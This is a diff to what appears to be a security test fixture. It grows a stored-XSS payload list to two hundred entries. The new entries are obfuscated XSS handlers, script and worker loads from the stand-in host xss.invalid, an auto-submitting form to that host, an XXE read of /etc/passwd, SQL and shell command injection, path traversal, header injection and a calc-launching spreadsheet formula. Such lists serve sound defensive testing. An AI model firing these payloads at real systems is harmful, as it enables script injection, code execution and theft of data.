@@ -1,4 +1,4 @@
-// A hundred ways to be run instead of shown. Each, were it run, calls alert or asks xss.invalid for something.
+// Two hundred ways to be run instead of shown. Each, were it run, calls alert or asks xss.invalid for something.
 // oxlint-disable no-script-url -- such addresses are what is tried here
 
 const tags = [
@@ -125,7 +125,123 @@ const scripts = [
   '{"__html":"<img src=x onerror=alert(1)>"}',
 ];
 
-/** The stored-XSS set of a hundred payloads (`quality.md`, issue 2 Show 5). */
+/** Handlers on elements that are not thought of, and in spellings that are not. */
+const strayHandlers = [
+  "<a autofocus onfocus=alert(1) href=x>x</a>",
+  "<article onclick=alert(1)>x</article>",
+  "<button autofocus onfocusin=alert(1)>x</button>",
+  "<canvas tabindex=0 autofocus onfocus=alert(1)>",
+  "<custom-tag autofocus tabindex=1 onfocus=alert(1)>",
+  "<div contenteditable autofocus onfocus=alert(1)>",
+  "<div onmouseenter=alert(1) style=position:fixed;inset:0>",
+  "<div ontouchstart=alert(1)>x</div>",
+  "<div onwheel=alert(1)>x</div>",
+  "<embed onload=alert(1) src=data:text/plain,x>",
+  "<frameset onload=alert(1)>",
+  "<iframe onload=alert(1)></iframe>",
+  "<image src=x onerror=alert(1)>",
+  "<img src=x onerror='alert(1)' loading=lazy>",
+  "<img src=x onerror=(alert)(1)>",
+  "<img src=x onerror=window['al'+'ert'](1)>",
+  "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
+  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
+  "<img src=x onerror=setTimeout('alert(1)')>",
+  "<img src=x onerror=import('//xss.invalid/m.js')>",
+  "<img srcset='x 1x' onerror=alert(1)>",
+  "<img\tsrc=x\tonerror=alert(1)>",
+  "<img\fsrc=x\fonerror=alert(1)>",
+  "<img src=`x` onerror=alert(1)>",
+  "<img src='x'onerror=alert(1)//",
+  "<input type=image src=x onerror=alert(1)>",
+  "<input onbeforeinput=alert(1) autofocus>",
+  "<isindex onfocus=alert(1) autofocus>",
+  "<keygen autofocus onfocus=alert(1)>",
+  "<link rel=prefetch href=x onload=alert(1)>",
+  "<object data=x onerror=alert(1)>",
+  "<picture><source srcset=x><img onerror=alert(1)></picture>",
+  "<script src=x onerror=alert(1)></script>",
+  "<style onload=alert(1)></style>",
+  "<table background=javascript:alert(1)>",
+  "<track default onerror=alert(1)>",
+  "<video poster=javascript:alert(1)>",
+  "<video src=x onerror=alert(1) autoplay>",
+  "<video onloadstart=alert(1)><source src=x></video>",
+  "<x onbeforetoggle=alert(1) popover id=p>x</x><button popovertarget=p>",
+];
+
+/** What a frame, a form, a worker or a base could carry away. */
+const carriers = [
+  "<form action=//xss.invalid/f><input name=a value=b></form><script>document.forms[0].submit()</script>",
+  "<form id=f action=javascript:alert(1)></form><button form=f>x",
+  "<iframe src='data:text/html,<script>parent.alert(1)</script>'>",
+  "<iframe src=//xss.invalid/i></iframe>",
+  "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
+  "<portal src=//xss.invalid/p></portal>",
+  "<fencedframe src=//xss.invalid/f></fencedframe>",
+  "<link rel=modulepreload href=//xss.invalid/m.js>",
+  "<link rel=manifest href=//xss.invalid/m.json>",
+  "<link rel=import href=//xss.invalid/i.html>",
+  "<link rel=icon href=//xss.invalid/i.ico>",
+  "<meta http-equiv=Content-Security-Policy content='script-src *'>",
+  "<meta http-equiv=set-cookie content='a=b'>",
+  "<applet code=x archive=//xss.invalid/a.jar>",
+  '<script type=importmap>{"imports":{"a":"//xss.invalid/a.js"}}</script>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["//xss.invalid/s"]}]}</script>',
+  "<script nomodule src=//xss.invalid/n.js></script>",
+  "<script async defer src='//xss.invalid/d.js'></script>",
+  "<script>new Worker('//xss.invalid/w.js')</script>",
+  "<script>navigator.serviceWorker.register('/x.js')</script>",
+];
+
+/** Drawings and formulas, whose parser is another one. */
+const otherParsers = [
+  "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
+  "<svg><animateTransform onbegin=alert(1) attributeName=transform>",
+  "<svg><discard onbegin=alert(1)>",
+  "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
+  "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler>",
+  "<svg><image href=x onerror=alert(1)>",
+  "<svg><image xlink:href=//xss.invalid/i.svg>",
+  "<svg><script href=//xss.invalid/s.js></script></svg>",
+  "<svg><script>alert&lpar;1&rpar;</script></svg>",
+  "<svg><style>@import url(//xss.invalid/s.css)</style></svg>",
+  "<svg><title><img src=x onerror=alert(1)></title></svg>",
+  "<svg><use href=//xss.invalid/u.svg#x></svg>",
+  "<svg xmlns='http://www.w3.org/2000/svg'><g onload=alert(1)></g></svg>",
+  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
+  "<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>",
+  "<math xlink:href=javascript:alert(1)><mi>x</mi></math>",
+  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
+  "<?xml-stylesheet href='javascript:alert(1)'?>",
+];
+
+/** Texts that some part on the way reads as its own language. */
+const languages = [
+  "'; drop table app_user; --",
+  "' or '1'='1",
+  "\\x27 union select password_hash from app_user --",
+  "{{7*7}}",
+  "\u0024{{7*7}}",
+  "#{7*7}",
+  "\u0024(id)",
+  "`id`",
+  "; cat /etc/passwd",
+  "../../../../etc/passwd",
+  "..%2f..%2f..%2fetc%2fpasswd",
+  "%00alert(1)",
+  "%0d%0aSet-Cookie: a=b",
+  "a\r\nX-Injected: 1",
+  '{"__proto__":{"polluted":true}}',
+  "[object Object]",
+  "%s%s%s%n",
+  "=cmd|' /C calc'!A0",
+  "\u202Egnp.exe",
+  "A\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A",
+  "toString",
+  "hasOwnProperty",
+];
+
+/** The stored-XSS set of two hundred payloads (`quality.md`, `messaging.md` 3). */
 export const payloads: readonly string[] = [
   ...tags,
   ...handlers,
@@ -135,4 +251,8 @@ export const payloads: readonly string[] = [
   ...disguises,
   ...styles,
   ...scripts,
+  ...strayHandlers,
+  ...carriers,
+  ...otherParsers,
+  ...languages,
 ];
